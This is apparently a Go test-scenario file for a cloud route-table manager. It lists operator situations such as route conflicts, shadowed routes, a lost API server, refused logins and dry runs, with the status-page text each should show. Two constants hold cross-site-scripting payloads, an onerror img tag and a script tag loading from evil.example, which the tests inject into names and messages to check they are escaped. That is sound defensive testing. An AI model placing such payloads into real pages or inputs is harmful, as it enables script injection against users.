package main

import (
	"otc-route-manager/node"
	"otc-route-manager/node/cmd/internal/stage"
	"otc-route-manager/otc/otctest"
)

// A situation is something that an operator may find.
type situation struct {
	name        string             // of its pictures
	environment []string           // of the program, beyond the usual
	set         func(*stage.World) // makes it so
	then        func(*stage.World) // what happens once routes are confirmed; nil: nothing
	until       string             // what the page says when it has come about
	see         []string           // words by which a reader recognises it
	stays       bool               // a reader stays until the program has ended
}

// What somebody might write into names and messages. It must be shown as it is.
const (
	hostileName    = `<img src="x" onerror="document.title='owned'">rtb-netops`
	hostileMessage = `<script src="https://evil.example/x.js">document.title='owned'</script>`
)

const (
	subnet   = "10.128.4.0/23"
	subnet6  = "fd01:0:0:4::/64"
	secondID = "0f2d8a4c-6b1e-4c73-9d58-3a7e5b9c1f60"
	otherID  = "c81f3b60-7d25-49ea-b6f4-0a9e2d5c7138"
	natID    = "e27d5c80-9f1b-4a36-8d4e-61b3f0c9a752"
)

func nat(destination string) otctest.Route {
	return otctest.Route{Type: "nat", Destination: destination, NextHop: natID}
}

func situations() []situation {
	return []situation{{
		name:        "in-sync",
		until:       "all routes are confirmed",
		environment: []string{"CLUSTER_CIDR=10.128.0.0/14,fd01::/48"},
		set:         func(w *stage.World) { w.Annotate(subnet, subnet6) },
		stays:       true,
		see: []string{"✓ In sync ready", "all routes are confirmed", "Instance " + stage.NodeName + " " + stage.InstanceID, "Pod subnets " + subnet + " " + subnet6,
			"Token ends in ", "Route table rtb-netops " + otctest.TableID + " confirmed 2 of 200 routes", "✓ as wanted",
			"Settings OS_PROJECT_NAME eu-de_netops OS_REGION_NAME eu-de", "CLUSTER_CIDR 10.128.0.0/14,fd01::/48 KUBE_OWN_NODE false DRY_RUN false DRIFT_CHECK_INTERVAL 15m DRIFT_REPAIR false", "Running since",
			"✓ success", "route " + subnet + ", " + subnet6 + " → worker-1 confirmed"},
	}, {
		name:  "conflict",
		until: "conflict: ",
		set: func(w *stage.World) {
			w.Cloud.AddTable(otctest.TableID, hostileName, otctest.VPCID,
				otctest.Route{Type: "nat", Destination: subnet, NextHop: natID, Description: hostileMessage})
			w.Annotate(subnet)
		},
		see: []string{"✗ Not in sync not ready", "Route table " + hostileName + ": conflict: a foreign route is in the way", "Do: find out who wrote that route",
			"nat " + natID, "✗ differs foreign", "nothing was written there", "Next read in 1"},
	}, {
		name:        "two-tables",
		until:       "rtb-peering",
		environment: []string{"ROUTE_TABLE_ID=" + otctest.TableID + "," + secondID},
		set: func(w *stage.World) {
			w.Cloud.AddTable(otctest.TableID, "rtb-workers", otctest.VPCID, nat(subnet))
			w.Cloud.AddTable(secondID, "rtb-peering", otctest.VPCID, nat("10.128.4.128/25"), nat(subnet))
			w.Annotate(subnet)
		},
		see: []string{"✗ Not in sync not ready Route table rtb-workers: conflict", "Route table rtb-peering: conflict"},
	}, {
		name:        "shadowed",
		environment: []string{"DRIFT_CHECK_INTERVAL=10s"},
		set:         func(w *stage.World) { w.Annotate(subnet) },
		then:        func(w *stage.World) { w.Cloud.PutRoute(otctest.TableID, nat("10.128.4.128/25")) },
		until:       "shadowed",
		see: []string{"! Not in sync ready Route table rtb-netops: shadowed: nat route 10.128.4.128/25 → " + natID + " takes its traffic", "Do: ",
			"! warning", "DRIFT_CHECK_INTERVAL 10s"},
	}, {
		name:  "no-api-server",
		set:   func(w *stage.World) { w.Kube.Close() },
		until: "cannot watch",
		see: []string{"✗ Not in sync not ready cannot watch node worker-1", "Do: check the API server and the way to it", "Instance not found yet Pod subnets none yet",
			"Last read none yet Next read none planned"},
	}, {
		name:  "api-server-lost",
		set:   func(w *stage.World) { w.Annotate(subnet) },
		then:  func(w *stage.World) { w.Kube.Close() },
		until: "cannot watch",
		see:   []string{"✓ In sync ready cannot watch node worker-1", "Do: check the API server and the way to it all routes are confirmed", "✓ as wanted"},
	}, {
		name:  "login-refused",
		until: "login refused",
		set: func(w *stage.World) {
			w.Cloud.SetPassword("rotated-and-nobody-told-us")
			w.Cloud.Fail(otctest.Fault{Op: otctest.OpLogin, Status: 401, Code: "IAM.0062", Message: hostileMessage, Times: -1})
			w.Annotate(subnet)
		},
		see: []string{"✗ Not in sync not ready login refused: iam login: HTTP 401 IAM.0062", "OS_PASSWORD is not the password of OS_USERNAME", "Secret otc-credentials",
			"Instance not found yet", "Token ends no token held", "Next read in 1", "not read yet … not known yet"},
	}, {
		name:        "dry-run",
		until:       "dry run: would",
		environment: []string{"DRY_RUN=true"},
		set: func(w *stage.World) {
			w.Cloud.SetRoutes(otctest.TableID,
				otctest.Route{Type: "ecs", Destination: subnet, NextHop: otherID, Description: node.Mark + ": worker-2"},
				otctest.Route{Type: "ecs", Destination: "10.130.0.0/23", NextHop: stage.InstanceID, Description: node.Mark + ": worker-1"})
			w.Annotate(subnet)
		},
		see: []string{"≠ Changes planned ready", "dry run: nothing is written", "Planned changes",
			"modify " + subnet + " → " + stage.InstanceID, "delete 10.130.0.0/23", otherID, "✗ differs"},
	}}
}
